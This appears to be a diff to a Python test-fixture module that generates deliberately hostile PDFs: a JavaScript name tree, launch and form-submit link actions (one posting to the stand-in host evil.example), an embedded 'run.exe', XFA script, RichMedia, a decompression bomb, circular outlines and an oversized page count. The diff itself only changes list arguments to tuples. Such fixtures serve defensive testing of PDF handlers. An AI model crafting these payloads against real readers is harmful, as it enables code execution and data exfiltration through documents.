@@ -41,7 +41,9 @@ def stream(data: bytes, extra: bytes = b"", *, flate: bool = False) -> bytes:
     return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"
 
 
-def one_page(page_extra: bytes = b"", catalog_extra: bytes = b"", more: list[bytes] = ()) -> bytes:
+def one_page(
+    page_extra: bytes = b"", catalog_extra: bytes = b"", more: tuple[bytes, ...] = ()
+) -> bytes:
     """Catalog 1, Pages 2, Page 3, content 4, font 5, then `more` (objects 6…)."""
     return raw_pdf(
         [
@@ -80,7 +82,7 @@ def open_action(path: Path) -> Path:
 
 def names_javascript(path: Path) -> Path:
     names = b"/Names << /JavaScript << /Names [(go) 6 0 R] >> >> "
-    return _write(path, one_page(catalog_extra=names, more=[JS]))
+    return _write(path, one_page(catalog_extra=names, more=(JS,)))
 
 
 def link_actions(path: Path) -> Path:
@@ -91,11 +93,11 @@ def link_actions(path: Path) -> Path:
         path,
         one_page(
             links,
-            more=[
+            more=(
                 link % (72, 172, LAUNCH),
                 link % (200, 300, b"<< /S /SubmitForm /F (http://evil.example/x) >>"),
                 link % (320, 420, b"<< /S /URI /URI (https://dld.go.th/) >>"),
-            ],
+            ),
         ),
     )
 
@@ -106,13 +108,13 @@ def embedded_file(path: Path) -> Path:
     spec = b"<< /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>"
     annot = b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 100 92 120] /FS 7 0 R >>"
     names = b"/Names << /EmbeddedFiles << /Names [(run.exe) 7 0 R] >> >> "
-    return _write(path, one_page(b"/Annots [8 0 R] ", names, [exe, spec, annot]))
+    return _write(path, one_page(b"/Annots [8 0 R] ", names, (exe, spec, annot)))
 
 
 def xfa_form(path: Path) -> Path:
     xfa = stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>x</script></xdp:xdp>')
     return _write(
-        path, one_page(catalog_extra=b"/AcroForm << /Fields [] /XFA 6 0 R >> ", more=[xfa])
+        path, one_page(catalog_extra=b"/AcroForm << /Fields [] /XFA 6 0 R >> ", more=(xfa,))
     )
 
 
@@ -121,7 +123,7 @@ def rich_media(path: Path) -> Path:
         b"<< /Type /Annot /Subtype /RichMedia /Rect [72 100 200 200] "
         b"/RichMediaContent << /Assets << /Names [] >> >> >>"
     )
-    return _write(path, one_page(b"/Annots [6 0 R] ", more=[annot]))
+    return _write(path, one_page(b"/Annots [6 0 R] ", more=(annot,)))
 
 
 def flate_bomb(path: Path, inflated: int = 1 << 30) -> Path:
@@ -213,7 +215,7 @@ def circular_outline(path: Path) -> Path:
     outline = b"<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>"
     first = b"<< /Title (One) /Parent 6 0 R /Next 8 0 R /Dest [3 0 R /Fit] >>"
     second = b"<< /Title (Two) /Parent 6 0 R /Next 7 0 R /Dest [3 0 R /Fit] >>"
-    return _write(path, one_page(catalog_extra=b"/Outlines 6 0 R ", more=[outline, first, second]))
+    return _write(path, one_page(catalog_extra=b"/Outlines 6 0 R ", more=(outline, first, second)))
 
 
 def many_pages(path: Path, pages: int = 20_000) -> Path:
